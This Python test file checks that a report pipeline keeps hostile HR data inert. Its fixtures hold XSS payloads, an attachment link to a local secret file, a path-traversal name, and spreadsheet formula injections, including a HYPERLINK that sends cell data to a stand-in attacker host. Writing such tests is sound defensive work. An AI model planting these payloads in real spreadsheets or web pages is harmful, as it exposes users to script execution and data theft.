"""Untrusted data stays inert through the whole batch (issue 15).

A small synthetic city whose OPD names and training titles carry attacks a person could
type into an HR export — a script tag, an event handler, a ``<link rel=attachment>`` to
a file of this machine, spreadsheet formulas (``=``, ``+``, ``-``, ``@``, tab, CR),
control characters (vertical tab, NUL), two spellings of one OPD, an OPD whose name
leaves no ASCII for a folder (``中央局``; a name of punctuation only, ``-``, is no name and
its rows are rejected in validation) and one that tries to climb out of the report folder — runs through ``run_batch`` with
``per_opd``. Every HTML, PDF and XLSX the batch writes is then read back.
"""

from __future__ import annotations

import re
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pytest

from kinerja_analysis.data.synth import generate, write_dataset
from kinerja_analysis.pipeline.batch import run_batch

pytestmark = pytest.mark.slow
SECRET = "RAHASIA-MESIN-5f3a9c"


def opd_payloads(secret_uri: str) -> list[str]:
    return [
        "<script>alert(1)</script>Kecamatan X",
        "<img src=x onerror=alert(2)>Badan Y",
        f'<link rel="attachment" href="{secret_uri}">Dinas Z',
        '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "Sekretariat Daerah",
        # the same folder slug as the one above, another OPD (a name differing only in
        # letter case or spaces is the same OPD: validation reads it as one)
        "Sekretariat_Daerah",
        "中央局",
        "+1+1 Dinas\x0bVT",
        "@SUM(1)\x00Badan",
        "../../../tmp/keluar\\..\\x",
    ]


#: How validation reads a name with control characters: removed (vertical tab as a
#: space) and reported as a warning; the employees of that OPD are kept.
AS_LOADED = {"+1+1 Dinas\x0bVT": "+1+1 Dinas VT", "@SUM(1)\x00Badan": "@SUM(1)Badan"}


def loaded(names: list[str]) -> list[str]:
    return sorted(AS_LOADED.get(n, n) for n in names)


TRAINING_PREFIXES = ("=1+1 ", "\tTab ", "\rCR ", "-2+3 ", "<script>alert(3)</script>", "@x ")


@pytest.fixture(scope="module")
def city(tmp_path_factory):
    root = tmp_path_factory.mktemp("kota_serang")
    secret = root / "rahasia.txt"
    secret.write_text(SECRET + "\n")
    r = generate(n_pegawai=400, seed=1)
    t = r.tables
    opds = sorted(t["pegawai"]["opd"].unique())
    payloads = opd_payloads(secret.as_uri())
    assert len(opds) == len(payloads)
    rename = dict(zip(opds, payloads, strict=True))
    for df in t.values():
        if "opd" in df.columns:
            df["opd"] = df["opd"].map(lambda v: rename.get(v, v))
    titles = sorted(t["pelatihan"]["nama_pelatihan"].unique())
    new = {v: TRAINING_PREFIXES[i % len(TRAINING_PREFIXES)] + v for i, v in enumerate(titles)}
    t["pelatihan"]["nama_pelatihan"] = t["pelatihan"]["nama_pelatihan"].map(new)
    data = root / "data"
    write_dataset(r, data)
    return data, secret, payloads


@pytest.fixture(scope="module")
def batch(city, tmp_path_factory):
    data, _, _ = city
    out = tmp_path_factory.mktemp("hasil") / "reports"
    from kinerja_analysis.data.loading import load_dataset

    last = load_dataset(data).periods[-1]
    s = run_batch(
        data, out, periods=[last], per_opd=True, notebooks=["10"], workers=2, progress=False
    )
    return out, s, last


class _Active(HTMLParser):
    """Collects markup that executes or fetches."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list = []

    def handle_starttag(self, tag, attrs):
        if tag in ("script", "iframe", "object", "embed", "link", "base", "form", "frame"):
            self.found.append((tag, attrs))
        for k, v in attrs:
            if k.startswith("on"):
                self.found.append((tag, k, v))
            if k in ("src", "href", "action", "srcset") and v:
                v = v.strip()
                if v.startswith("//") or (
                    re.match(r"^[a-zA-Z][a-zA-Z0-9+.-]*:", v) and not v.startswith("data:image/")
                ):
                    self.found.append((tag, k, v[:80]))


def test_every_opd_gets_one_complete_report(batch, city):
    out, s, last = batch
    _, _, payloads = city
    tidy = s.tidy()
    assert (tidy["status"] == "ok").all(), tidy[["key", "message"]]
    per_opd = tidy[tidy["opd"].notna()]
    assert sorted(per_opd["opd"]) == loaded(payloads)  # one run per OPD, the name as loaded
    folders = sorted((out / last / "opd").iterdir())
    assert len(folders) == len(payloads)  # colliding spellings and "中央局" get their own folder
    for f in folders:
        assert re.fullmatch(r"[a-z0-9]+(-[a-z0-9]+)*", f.name), f.name
        assert sorted(p.suffix for p in f.iterdir() if p.name != "manifest.json") == [
            ".html",
            ".pdf",
            ".xlsx",
        ]
    # nothing was written outside --out
    assert not (out.parent / "tmp").exists() and not list(out.parent.parent.rglob("keluar*"))
    resolved = out.resolve()
    for p in out.rglob("*"):
        assert resolved in p.resolve().parents


def test_no_executable_markup_from_data_in_any_html(batch):
    out, _, _ = batch
    pages = sorted(out.rglob("*.html"))
    assert len(pages) >= 12
    seen_payload = 0
    for p in pages:
        html = p.read_text("utf-8")
        parser = _Active()
        parser.feed(html)
        assert not parser.found, (p.name, parser.found[:3])
        assert "Content-Security-Policy" in html
        seen_payload += "&lt;script&gt;alert(1)&lt;/script&gt;Kecamatan X" in html
    assert seen_payload >= 2  # the name is in the city report and its own report, as text


def test_no_attachment_and_no_byte_of_the_file_in_any_pdf(batch):
    from pypdf import PdfReader

    out, _, _ = batch
    pdfs = sorted(out.rglob("*.pdf"))
    assert len(pdfs) == 11
    named = 0
    for p in pdfs:
        raw = p.read_bytes()
        assert SECRET.encode() not in raw and b"EmbeddedFile" not in raw, p.name
        reader = PdfReader(str(p))
        assert not reader.attachments, p.name
        text = " ".join(pg.extract_text() for pg in reader.pages)
        assert SECRET not in text
        named += "Dinas Z" in text
    assert named >= 1  # the attachment payload reached the PDF of its OPD, as text


def test_no_formula_cell_in_any_workbook(batch, city):
    from openpyxl import load_workbook

    out, _, _ = batch
    _, _, payloads = city
    books = sorted(out.rglob("*.xlsx"))
    assert len(books) == 11
    texts = set()
    for p in books:
        with zipfile.ZipFile(p) as z:
            for n in z.namelist():
                if n.startswith("xl/worksheets/"):
                    xml = z.read(n)
                    assert b"<f>" not in xml and b"<f " not in xml, (p.name, n)
        wb = load_workbook(p)
        assert len(wb.sheetnames) > 3, (p.name, wb.sheetnames)  # never only `info`
        for ws in wb:
            for row in ws.iter_rows():
                for c in row:
                    assert c.data_type != "f", (p.name, ws.title, c.coordinate)
                    if isinstance(c.value, str):
                        texts.add(c.value)
    assert '=HYPERLINK("http://evil.example/?x="&A1,"Klik")' in texts
    assert "+1+1 Dinas VT" in texts  # the control character was cleaned, not fatal


def test_manifest_keeps_names_and_no_local_paths(batch, city):
    import json

    out, _, last = batch
    data, secret, payloads = city
    names = []
    for m in out.rglob("manifest.json"):
        text = m.read_text("utf-8")
        for local in (str(data), str(out.parent), str(secret.parent), "data_dir", "cache_dir"):
            # the attachment payload's file URI is part of an OPD name (data), not a path
            assert local not in text.replace(secret.as_uri(), ""), (m, local)
        for r in json.loads(text)["runs"].values():
            if r.get("opd"):
                names.append(r["opd"])
    assert sorted(names) == loaded(payloads)
    index = (out / "index.html").read_text("utf-8")
    parser = _Active()
    parser.feed(index)
    assert not parser.found
    assert index.count(f'href="{last}/opd/') == 3 * len(payloads)


def test_console_summary_escapes_data(batch):
    from rich.console import Console

    _, s, _ = batch
    con = Console(record=True, width=300)
    con.print(s.rich_table(limit=100))
    for line in s.lines():
        con.print(line)
    text = con.export_text()
    assert "\x0b" not in text and "\x00" not in text and "\x1b[" not in text
    assert Path(s.index).name == "index.html"
